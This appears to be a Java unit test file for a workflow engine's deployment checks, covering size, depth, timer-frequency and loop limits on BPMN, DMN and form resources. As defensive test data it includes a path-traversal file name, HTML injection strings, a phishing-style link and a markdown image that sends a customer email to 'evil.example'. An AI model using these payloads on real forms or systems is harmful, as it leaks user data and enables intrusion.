package io.circuitos.engine.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import io.circuitos.tasks.TaskCatalogue;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Sizes, shapes and run bounds the guard checks before the engine parses: refused naming the limit, allowed inside it. */
class DeploymentLimitsTest {

    private static final String HEADER = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\""
            + " xmlns:camunda=\"http://camunda.org/schema/1.0/bpmn\" id=\"d\" targetNamespace=\"http://circuitos.io/t\">";
    private final DeploymentCheck check = new DeploymentCheck(new ExpressionPolicy(Set.of(), TaskCatalogue.shipped()));

    private List<String> problems(Map<String, byte[]> resources) {
        return check.check(resources, ReferenceCatalog.unchecked()).stream()
                .flatMap(r -> r.problems().stream().map(p -> r.resource() + ": " + p)).toList();
    }

    private List<String> problems(String name, String content) {
        return problems(Map.of(name, content.getBytes(StandardCharsets.UTF_8)));
    }

    private static String process(String body) {
        return HEADER + "<bpmn:process id=\"p\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\">" + body + "</bpmn:process></bpmn:definitions>";
    }

    @Test
    void fiftyThousandNestedElementsAreRefusedAtTheDepthLimitWithoutOverflowingTheStack() {
        String deep = HEADER + "<bpmn:documentation>".repeat(50_000) + "</bpmn:documentation>".repeat(50_000) + "</bpmn:definitions>";

        assertThat(problems("deep.bpmn", deep)).singleElement().asString()
                .contains("nests elements deeper than the limit of 64 levels (circuitos.deployments.limits.max-depth)");
    }

    @Test
    void aHugeElementNameIsRefusedAtTheAttributeLimit() {
        String name = "x".repeat(200_000);

        assertThat(problems("named.bpmn", process("<bpmn:startEvent id=\"Start\" name=\"" + name + "\"/>"))).singleElement().asString()
                .contains("longer than the limit of 16384 characters (circuitos.deployments.limits.max-attribute-length)");
    }

    @Test
    void aResourceOverTheByteLimitIsRefusedBeforeItIsParsed() {
        byte[] big = new byte[3 * 1024 * 1024];
        java.util.Arrays.fill(big, (byte) '<'); // not even XML: the size decides first

        assertThat(problems(Map.of("big.bpmn", big))).singleElement().asString()
                .contains("over the limit of 2097152 bytes per resource (circuitos.deployments.limits.max-resource-bytes)")
                .doesNotContain("well-formed");
    }

    @Test
    void aDeploymentOverTheTotalLimitIsRefusedNamingIt() {
        Map<String, byte[]> resources = new LinkedHashMap<>();
        for (int i = 0; i < 5; i++) {
            resources.put("part" + i + ".png", new byte[2_000_000]);
        }
        assertThat(problems(resources)).anySatisfy(p -> assertThat(p).contains("circuitos.deployments.limits.max-deployment-bytes"));
    }

    @Test
    void aDecisionTableWithTooManyRulesIsRefusedNamingTheTable() {
        StringBuilder dmn = new StringBuilder("<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\" id=\"d\" name=\"d\" namespace=\"n\">"
                + "<decision id=\"many\" name=\"many\"><decisionTable id=\"ManyRules\"><input id=\"i\"><inputExpression id=\"ie\"><text>x</text>"
                + "</inputExpression></input><output id=\"o\" name=\"y\"/>");
        for (int i = 0; i < 2_500; i++) {
            dmn.append("<rule id=\"r").append(i).append("\"><inputEntry id=\"e").append(i).append("\"><text>").append(i)
                    .append("</text></inputEntry><outputEntry id=\"oe").append(i).append("\"><text>1</text></outputEntry></rule>");
        }
        dmn.append("</decisionTable></decision></definitions>");

        assertThat(problems("many.dmn", dmn.toString())).singleElement().asString()
                .contains("element ManyRules: decision table has more than the limit of 2000 rules (circuitos.deployments.limits.max-rules-per-table)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"../escape.bpmn", "forms/x.form", "a\\b.png", ".hidden.bpmn", "tab\there.bpmn", "..form"})
    void resourceNamesArePlainFileNames(String name) {
        assertThat(problems(name, process("<bpmn:startEvent id=\"Start\"/>"))).singleElement().asString().contains("plain file names");
    }

    @Test
    void aRealPngAndPlainNamesPass() throws IOException {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(4, 3, BufferedImage.TYPE_INT_RGB), "png", png);

        assertThat(problems(Map.of("Review (v2).png", png.toByteArray(), "lost-opportunity v2.bpmn",
                process("<bpmn:startEvent id=\"Start\"/>").getBytes(StandardCharsets.UTF_8)))).isEmpty();
    }

    @Test
    void aCamundaFormOfTheSameDeploymentMayBeNamedByFormKey() {
        Map<String, byte[]> resources = Map.of(
                "review.bpmn", process("<bpmn:startEvent id=\"Start\"/><bpmn:userTask id=\"Review\" camunda:formKey=\"camunda-forms:deployment:review.form\"/>")
                        .getBytes(StandardCharsets.UTF_8),
                "review.form", "{\"id\":\"review\",\"type\":\"default\",\"components\":[{\"id\":\"Why\",\"type\":\"text\",\"text\":\"[The trail](/trace/x/y)\"},{\"id\":\"Answer\",\"key\":\"answer\",\"type\":\"textarea\"}]}"
                        .getBytes(StandardCharsets.UTF_8));

        assertThat(problems(resources)).isEmpty();
    }

    @Test
    void aFormKeyNamingAFormOfAnotherDeploymentIsRefused() {
        assertThat(problems("review.bpmn", process("<bpmn:userTask id=\"Review\" camunda:formKey=\"camunda-forms:deployment:elsewhere.form\"/>")))
                .singleElement().asString().contains("must name a .form resource of the same deployment");
    }

    @Test
    void loopsThatWaitOrContinueAsynchronouslyPass() {
        String userTaskLoop = "<bpmn:startEvent id=\"Start\"/><bpmn:exclusiveGateway id=\"Again\"/><bpmn:userTask id=\"Ask\"/>"
                + "<bpmn:sequenceFlow id=\"f1\" sourceRef=\"Start\" targetRef=\"Again\"/><bpmn:sequenceFlow id=\"f2\" sourceRef=\"Again\" targetRef=\"Ask\"/>"
                + "<bpmn:sequenceFlow id=\"f3\" sourceRef=\"Ask\" targetRef=\"Again\"/>";
        String asyncLoop = userTaskLoop.replace("<bpmn:userTask id=\"Ask\"/>", "<bpmn:task id=\"Ask\" camunda:asyncBefore=\"true\"/>");
        String subProcessLoop = userTaskLoop.replace("<bpmn:userTask id=\"Ask\"/>",
                "<bpmn:subProcess id=\"Ask\"><bpmn:startEvent id=\"In\"/><bpmn:userTask id=\"Inner\"/></bpmn:subProcess>");

        assertThat(problems("a.bpmn", process(userTaskLoop))).isEmpty();
        assertThat(problems("b.bpmn", process(asyncLoop))).isEmpty();
        assertThat(problems("c.bpmn", process(subProcessLoop))).isEmpty();
    }

    @Test
    void aLoopInsideASubProcessWithoutWaitStateIsRefused() {
        String loop = "<bpmn:subProcess id=\"Outer\"><bpmn:exclusiveGateway id=\"G\"/><bpmn:task id=\"T\"/>"
                + "<bpmn:sequenceFlow id=\"f1\" sourceRef=\"G\" targetRef=\"T\"/><bpmn:sequenceFlow id=\"f2\" sourceRef=\"T\" targetRef=\"G\"/></bpmn:subProcess>";

        assertThat(problems("loop.bpmn", process(loop))).singleElement().asString().contains("loop through").contains("with no wait state");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0 0 9 ? * MON", "R/PT10M", "R3/2026-01-01T09:00:00/P1D", "0 */5 * * * ?", "R/P1W"})
    void timerCyclesAtOrAboveTheMinimumPass(String cycle) {
        assertThat(problems("t.bpmn", process("<bpmn:startEvent id=\"Start\"><bpmn:timerEventDefinition id=\"Timer\"><bpmn:timeCycle>"
                + cycle + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"R/PT1S", "R10/PT4M59S", "* * * * * ?", "0 0/1 * * * ?", "0 0,30 * * * ?"})
    void timerCyclesBelowTheMinimumAreRefused(String cycle) {
        assertThat(problems("t.bpmn", process("<bpmn:startEvent id=\"Start\"><bpmn:timerEventDefinition id=\"Timer\"><bpmn:timeCycle>"
                + cycle + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>"))).singleElement().asString()
                .contains("more often than the minimum of PT5M");
    }

    @Test
    void aLoopThroughLinkEventsOrAnErrorBoundaryDoesNotWaitAndIsRefused() {
        String linkLoop = "<bpmn:task id=\"T\"/><bpmn:intermediateThrowEvent id=\"Jump\"><bpmn:linkEventDefinition name=\"back\"/></bpmn:intermediateThrowEvent>"
                + "<bpmn:intermediateCatchEvent id=\"Land\"><bpmn:linkEventDefinition name=\"back\"/></bpmn:intermediateCatchEvent>"
                + "<bpmn:sequenceFlow id=\"f1\" sourceRef=\"Land\" targetRef=\"T\"/><bpmn:sequenceFlow id=\"f2\" sourceRef=\"T\" targetRef=\"Jump\"/>";
        String errorLoop = "<bpmn:task id=\"T\"/><bpmn:boundaryEvent id=\"Failed\" attachedToRef=\"T\"><bpmn:errorEventDefinition/></bpmn:boundaryEvent>"
                + "<bpmn:sequenceFlow id=\"f1\" sourceRef=\"Failed\" targetRef=\"T\"/>";
        String timerLoop = errorLoop.replace("<bpmn:errorEventDefinition/>", "<bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition>");

        assertThat(problems("link.bpmn", process(linkLoop))).singleElement().asString().contains("with no wait state");
        assertThat(problems("error.bpmn", process(errorLoop))).singleElement().asString().contains("with no wait state");
        assertThat(problems("timer.bpmn", process(timerLoop))).isEmpty();
    }

    @Test
    void aTimerCycleWrittenAsAStringExpressionIsCheckedLikeALiteral() {
        assertThat(problems("t.bpmn", process("<bpmn:startEvent id=\"Start\"><bpmn:timerEventDefinition id=\"Timer\"><bpmn:timeCycle>${'R/PT1S'}"
                + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>"))).singleElement().asString().contains("more often than the minimum");
    }

    @ParameterizedTest
    @ValueSource(strings = {"![x](https://evil.example/p.gif?d={{customerEmail}})", "[login](https://evil.example/login)",
            "[x](//evil.example)", "<video src=x>", "=\"<im\" + \"g src=x>\"", "Hello {{ customerEmail + \"@\" }}"})
    void formTextThatLoadsSendsOrComputesIsRefused(String text) {
        String form = "{\"id\":\"f\",\"type\":\"default\",\"components\":[{\"id\":\"Note\",\"type\":\"text\",\"text\":"
                + new com.fasterxml.jackson.databind.ObjectMapper().valueToTree(text) + "}]}";

        assertThat(problems("f.form", form)).singleElement().asString().startsWith("f.form: element Note: form component property 'text'");
    }

    @Test
    void aLoopWhoseOnlyWaitIsAShortTimerIsRefused() {
        String loop = "<bpmn:task id=\"T\"/><bpmn:intermediateCatchEvent id=\"Tick\"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1S</bpmn:timeDuration>"
                + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent><bpmn:sequenceFlow id=\"f1\" sourceRef=\"T\" targetRef=\"Tick\"/>"
                + "<bpmn:sequenceFlow id=\"f2\" sourceRef=\"Tick\" targetRef=\"T\"/>";

        assertThat(problems("tick.bpmn", process(loop))).singleElement().asString().contains("with no wait state");
        assertThat(problems("hour.bpmn", process(loop.replace("PT1S", "PT1H")))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"R/P0W", "R/P0Y0M", "R/2026-01-01T00:00:00/2026-01-01T00:00:01", "R5/whenever/later"})
    void zeroUnreadableAndStartEndCyclesShorterThanTheMinimumAreRefused(String cycle) {
        assertThat(problems("t.bpmn", process("<bpmn:startEvent id=\"Start\"><bpmn:timerEventDefinition id=\"Timer\"><bpmn:timeCycle>"
                + cycle + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>"))).singleElement().asString()
                .contains("more often than the minimum of PT5M");
    }

    @Test
    void aHugeNamespaceDeclarationIsRefusedAtTheAttributeLimit() {
        String xml = HEADER.replace("id=\"d\"", "xmlns:x=\"urn:" + "n".repeat(100_000) + "\" id=\"d\"") + "</bpmn:definitions>";

        // the JDK's secure XML processing may refuse it first; either way it is refused before the engine parses
        assertThat(problems("ns.bpmn", xml)).singleElement().asString().containsAnyOf("namespace declaration longer than the limit", "exceeds");
    }

    @Test
    void aCardinalityWithinTheLimitPasses() {
        assertThat(problems("mi.bpmn", process("<bpmn:task id=\"Fan\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>100"
                + "</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:task>"))).isEmpty();
    }
}
